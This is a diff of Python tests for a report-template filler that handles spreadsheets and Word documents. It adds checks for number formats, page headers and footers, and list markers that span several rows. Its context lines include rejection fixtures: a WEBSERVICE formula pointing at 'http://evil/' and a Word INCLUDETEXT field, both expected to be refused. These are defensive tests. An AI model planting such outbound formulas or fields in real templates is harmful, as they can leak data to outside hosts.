@@ -103,6 +103,46 @@ def test_a_result_alone_in_its_cell_is_a_number() -> None:
     assert (sheet["B1"].value, sheet["B1"].data_type) == (0.012, "n")
 
 
+def test_a_result_keeps_its_decimals_in_a_style_of_its_own() -> None:
+    rows = [["{{#items}}", "{{result}}", "{{/items}}"]]
+    said = ("0.30", "0.3", "1.500", "0.30", "12")
+    facts = report().model_copy(update={"items": [item(n, result=each) for n, each in enumerate(said, 1)]})
+    sheet = load_workbook(io.BytesIO(fill(workbook(rows), facts))).active
+    assert sheet is not None
+    cells = [row[1] for row in sheet.iter_rows()]
+    assert [(each.value, each.number_format) for each in cells] == [
+        (0.3, "0.00"), (0.3, "General"), (1.5, "0.000"), (0.3, "0.00"), (12, "General")
+    ]  # fmt: skip
+    assert [each.font.name for each in cells] == [cells[0].font.name] * 5
+
+
+def test_a_format_of_the_plants_own_stays() -> None:
+    out = io.BytesIO()
+    book = xlsxwriter.Workbook(out)
+    book.add_worksheet().write_row(
+        0, 0, ["{{#items}}{{no}}", "{{result}}", "{{/items}}"], book.add_format({"num_format": "0.0000"})
+    )
+    book.close()
+    facts = report().model_copy(update={"items": [item(1, result="0.30")]})
+    sheet = load_workbook(io.BytesIO(fill(out.getvalue(), facts))).active
+    assert sheet is not None
+    assert sheet["B1"].number_format == "0.0000"
+
+
+def test_heads_and_feet_of_pages() -> None:
+    out = io.BytesIO()
+    book = xlsxwriter.Workbook(out)
+    sheet = book.add_worksheet()
+    sheet.write_string(0, 0, "{{lot.product}}")
+    sheet.set_header("&L{{lot.lot_no}}&C{{document.title}}")
+    sheet.set_footer("&R{{document.number}} &P/&N")
+    book.close()
+    found = load_workbook(io.BytesIO(fill(out.getvalue(), report(lot_no="A&B")))).active
+    assert found is not None
+    assert (found.oddHeader.left.text, found.oddHeader.center.text) == ("A&&B", "出厂检验报告")
+    assert found.oddFooter.right.text == "CJ2026-00001 &P/&N"
+
+
 def test_an_empty_list_leaves_one_empty_row() -> None:
     sheet = load_workbook(
         io.BytesIO(fill(workbook([["{{#items}}{{name}}{{/items}}"], ["末"]]), report(items=0)))
@@ -195,6 +235,15 @@ FIELD = paragraph("{{lot.lot_no}}") + "<w:p><w:r><w:instrText>INCLUDETEXT \\\\ev
         (document(FIELD), "template_reaches_out"),
         (workbook([["{{lot.lot_no}}", '=WEBSERVICE("http://evil/")']]), "template_reaches_out"),
         (workbook([["无"]]), "template_without_placeholders"),
+        (workbook([["{{#items}}{{no}}"]]), "template_list_not_of_one_row"),
+        (workbook([["{{#items}}{{no}}"], ["x{{/items}}"]]), "template_list_not_of_one_row"),
+        (workbook([["{{lot.lot_no}}{{/items}}"]]), "template_list_not_of_one_row"),
+        (workbook([["{{#items}}{{no}}", "{{#signers}}{{/signers}}{{/items}}"]]), "template_list_not_of_one_row"),
+        (document(paragraph("{{#items}}{{lot.lot_no}}{{/items}}")), "template_list_not_of_one_row"),
+        (
+            document("<w:tbl>" + table_row("{{#items}}{{no}}") + table_row("{{/items}}") + "</w:tbl>"),
+            "template_list_not_of_one_row",
+        ),
         (workbook([["{{#items}}{{no}}{{/items}}"], ["=A1*2"]]), "template_formula_one_of_rows"),
         (workbook([["{{#items}}{{no}}{{/items}}"], ["=SUM(Total)"]]), "template_formula_unreadable"),
         (workbook([["{{#items}}{{no}}{{/items}}"], ["=SUM(1:1)"]]), "template_formula_unreadable"),
